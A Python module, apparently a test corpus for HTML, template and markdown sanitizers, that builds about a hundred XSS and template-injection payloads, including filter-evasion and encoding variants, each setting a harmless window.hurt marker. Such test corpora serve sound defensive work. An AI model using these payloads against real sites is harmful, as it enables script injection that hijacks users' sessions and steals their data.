"""A hundred pieces of text that would run a script where text is taken for markup, for a template or for a script.

Each sets `window.hurt`. They are put together from ways to run something and ways to get it past a careless filter.
"""

from __future__ import annotations

from html import escape
from itertools import count
from urllib.parse import quote

_number = count(1)


def _hurt() -> str:
    return f"window.hurt={next(_number)}"


def _handlers() -> list[str]:
    """Elements that run something by themselves."""
    shapes = (
        "<img src=x onerror={0}>",
        '<img src="x" onerror="{0}">',
        "<IMG SRC=x OnErRoR={0}>",
        "<img/src=x/onerror={0}>",
        "<img src=x onerror\n=\n{0}>",
        "<svg onload={0}>",
        "<svg/onload={0}//",
        "<svg><animate onbegin={0} attributeName=x dur=1s>",
        "<svg><script>{0}</script></svg>",
        "<body onload={0}>",
        "<video src=x onerror={0}></video>",
        "<audio src=x onerror={0}></audio>",
        "<video><source onerror={0}></video>",
        "<input autofocus onfocus={0}>",
        "<select autofocus onfocus={0}></select>",
        "<textarea autofocus onfocus={0}></textarea>",
        "<details open ontoggle={0}>x</details>",
        "<iframe onload={0}></iframe>",
        "<object data=x onerror={0}></object>",
        "<embed src=x onerror={0}>",
        "<link rel=stylesheet href=x onerror={0}>",
        "<style onload={0}></style>",
        "<marquee onstart={0}>x</marquee>",
        "<p tabindex=1 autofocus onfocus={0}>x</p>",
        "<xss onanimationstart={0} style='animation-name:fade;animation-duration:1s'>",
        "<math><mtext><img src=x onerror={0}></mtext></math>",
    )
    return [shape.replace("{0}", _hurt()) for shape in shapes]


def _scripts() -> list[str]:
    shapes = (
        "<script>{0}</script>",
        "<script >{0}</script >",
        "<ScRiPt>{0}</sCrIpT>",
        "<script\n>{0}</script\n>",
        "<script src=data:text/javascript,{0}></script>",
        "<script type=module>{0}</script>",
        "<script>{0}//",
        "<scr<script>ipt>{0}</scr</script>ipt>",
        "<<script>{0}//<</script>",
        "<template><script>{0}</script></template>",
        "<noscript><p title='</noscript><script>{0}</script>'>",
        "<!--><script>{0}</script-->",
        "<![CDATA[<script>{0}</script>]]>",
        "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
        "<iframe src=javascript:parent.{0}></iframe>",
        "<object data='data:text/html,<script>parent.{0}</script>'></object>",
        "<base href=javascript:{0}//>",
        "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
        "<a href=javascript:{0} autofocus>x</a>",
        "<form action=javascript:{0}><button autofocus>x</button></form>",
    )
    return [shape.replace("{0}", _hurt()) for shape in shapes]


def _breaks() -> list[str]:
    """Ways out of an attribute, an element or a string, each with something to run behind it."""
    ways = (
        '">', "'>", "`>", '"/>', "--></style>", "</script>", "</textarea>", "</title>", "</p></mark>", "]]>", '\\">',
        "\\u0022>", "</div></template>", '"><!--',
    )  # fmt: skip
    return [f"{way}<img src=x onerror={_hurt()}>" for way in ways]


def _templates() -> list[str]:
    shapes = (
        "${{0}}", "${Object.assign(window,{hurt:1})}", "{{constructor.constructor('{0}')()}}", "`${{0}}`", "#{{0}}",
        "{{{{0}}}}", "{%{0}%}", "<%= {0} %>", "[[${{0}}]]", "{{#with this}}{0}{{/with}}", "\\${{0}}",
        "${(() => { {0} })()}", "{{lookup this 'constructor'}}${{0}}", "\u2028${{0}}\u2029", "$to $name ${{0}}",
        "');{0};//", "\");{0};//", "\\');{0};//", "';{0};'", "\\u0027;{0};\\u0027",
    )  # fmt: skip
    return [shape.replace("{0}", _hurt()) for shape in shapes]


def _encoded() -> list[str]:
    """Markup that becomes markup only when it is decoded once too often."""
    made = [f"<img src=x onerror={_hurt()}>" for _ in range(12)]
    ways = (
        escape,
        lambda text: escape(escape(text)),
        quote,
        lambda text: quote(quote(text)),
        lambda text: "".join(f"&#{ord(letter)};" for letter in text),
        lambda text: "".join(f"&#x{ord(letter):x};" for letter in text),
        lambda text: "".join(f"&#{ord(letter):07d}" for letter in text),
        lambda text: "".join(f"\\u{ord(letter):04x}" for letter in text),
        lambda text: "".join(f"\\x{ord(letter):02x}" for letter in text),
        lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
        lambda text: text.replace("<", "\u02c2").replace("=", "\uff1d"),
        lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    )
    return [way(text) for way, text in zip(ways, made, strict=True)]


def _markdown() -> list[str]:
    shapes = (
        "[x](javascript:{0})",
        "![x](x 'onerror={0}')",
        "<javascript:{0}>",
        "[x]: javascript:{0}",
        "```html\n<img src=x onerror={0}>\n```",
        "$$\\href{javascript:{0}}{x}$$",
        "<details><summary>x</summary><img src=x onerror={0}></details>",
        "javascript:{0}",
        "data:text/html,<script>{0}</script>",
    )
    return [shape.replace("{0}", _hurt()) for shape in shapes]


PAYLOADS = tuple(dict.fromkeys([*_handlers(), *_scripts(), *_breaks(), *_templates(), *_encoded(), *_markdown()]))
